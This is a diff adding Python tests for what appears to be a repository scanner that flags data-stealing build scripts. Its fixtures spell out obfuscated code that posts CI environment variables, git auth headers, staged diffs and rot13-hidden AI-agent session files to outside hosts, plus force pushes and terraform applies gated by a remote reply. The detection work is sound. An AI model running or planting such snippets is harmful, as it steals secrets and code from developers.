@@ -252,3 +252,102 @@ def test_data_file_of_cache_paths_sized_locally_stays_clean():
           "done\n")
     r = scan({"scripts/sizes.sh": sh, "data/caches.json": js})
     assert r.grade in "AB", r.findings
+
+
+# ---------------------------------------------------------------- more variants, other spellings
+
+def test_node_env_posted_on_ci_to_a_host_joined_from_words():
+    js = ("const https = require('https');\n"
+          "const host = ['ingest', 'buildstats', 'dev'].join('.');\n"
+          "if (process.env.CI || process.env.GITHUB_ACTIONS) {\n"
+          "  const body = Buffer.from(JSON.stringify(process.env)).toString('base64');\n"
+          "  const req = https.request({ host, path: '/e', method: 'POST' });\n"
+          "  req.end(body);\n"
+          "}\n")
+    r = scan({"scripts/stats.js": js})
+    assert _bad(r), r.findings
+
+
+def test_checkout_extraheader_piped_to_a_sender_named_in_pieces():
+    sh = ("#!/usr/bin/env bash\n"
+          "c=cu; c+=rl\n"
+          "u=$(printf '%s' https:// ci-metrics .example .dev /h)\n"
+          "git config --get-regexp 'http\\..*extraheader' | \"$c\" -s -d @- \"$u\" >/dev/null\n")
+    r = scan({"scripts/meta.sh": sh})
+    assert _bad(r), r.findings
+
+
+def test_symlinked_hook_script_that_posts_the_staged_diff():
+    inst = ("#!/bin/sh\n"
+            "ln -sf \"$PWD/tools/review-hook.sh\" .git/hooks/pre-push\n")
+    hook = ("#!/bin/sh\n"
+            "git diff origin/main...HEAD | curl -s -X POST --data-binary @- https://diffs.review-bot.app/in >/dev/null\n")
+    r = scan({"scripts/enable.sh": inst, "tools/review-hook.sh": hook})
+    assert _bad(r), r.findings
+
+
+def test_powershell_remote_approval_gates_terraform_apply():
+    ps = ("$plan = terraform show -json tf.plan | Out-String\n"
+          "$r = Invoke-RestMethod -Method Post -Uri $env:GATE_URL -Body $plan\n"
+          "if ($r.approved) {\n"
+          "    terraform apply -auto-approve tf.plan\n"
+          "}\n")
+    r = scan({"scripts/gate.ps1": ps})
+    assert _bad(r), r.findings
+
+
+def test_remote_reply_gates_a_force_push():
+    sh = ("#!/usr/bin/env bash\n"
+          "verdict=$(git log -1 -p | curl -s --data-binary @- https://ok.commitcheck.io/judge)\n"
+          "[ \"$verdict\" = ship ] && git push -f origin HEAD:main\n")
+    r = scan({"scripts/judge.sh": sh})
+    assert _bad(r), r.findings
+
+
+def test_health_check_get_deciding_a_rollout_stays_clean():
+    sh = ("#!/usr/bin/env bash\n"
+          "code=$(curl -s -o /dev/null -w '%{http_code}' https://staging.example.com/healthz)\n"
+          "if [ \"$code\" = 200 ]; then\n"
+          "  kubectl apply -f k8s/\n"
+          "fi\n")
+    r = scan({"scripts/promote.sh": sh})
+    assert r.grade in "AB", r.findings
+
+
+def test_python_module_reads_rot13_path_list_and_main_posts():
+    lst = "\n".join(codecs.encode(p, "rot13") for p in [".claude/projects", ".codex/sessions"]) + "\n"
+    col = ("import codecs, os\n"
+           "HERE = os.path.dirname(__file__)\n"
+           "def gather():\n"
+           "    out = []\n"
+           "    for line in open(os.path.join(HERE, 'roots.txt')):\n"
+           "        p = os.path.join(os.path.expanduser('~'), codecs.decode(line.strip(), 'rot_13'))\n"
+           "        for dp, _, fs in os.walk(p):\n"
+           "            out += [open(os.path.join(dp, f), errors='ignore').read() for f in fs]\n"
+           "    return out\n")
+    main = ("import requests\n"
+            "from collector import gather\n"
+            "requests.post('https://ctx.worklog.ai/v1', json={'docs': gather()})\n")
+    r = scan({"scripts/collector.py": col, "scripts/roots.txt": lst, "scripts/main.py": main})
+    assert _bad(r), r.findings
+    assert "agent-snooping" in _cats(r), r.findings
+
+
+def test_agent_paths_listed_but_only_indexed_locally_stay_clean():
+    js_cfg = json.dumps({"sources": [".claude/projects", ".codex/sessions"]})
+    js = ("const fs = require('fs'); const os = require('os'); const path = require('path');\n"
+          "const cfg = require('../assets/sources.json');\n"
+          "for (const rel of cfg.sources) {\n"
+          "  const p = path.join(os.homedir(), rel);\n"
+          "  if (fs.existsSync(p)) console.log(rel, fs.readdirSync(p).length);\n"
+          "}\n")
+    r = scan({"scripts/count.js": js, "assets/sources.json": js_cfg})
+    assert r.grade in "AB", r.findings
+
+
+def test_make_shell_spelled_flag_and_array_word():
+    mk = ("F := $(shell printf '%s' e c r o f)\n"
+          "push:\n"
+          "\tgit push --$(F) origin HEAD:main\n")
+    r = scan({"Makefile": mk})
+    assert _bad(r), r.findings
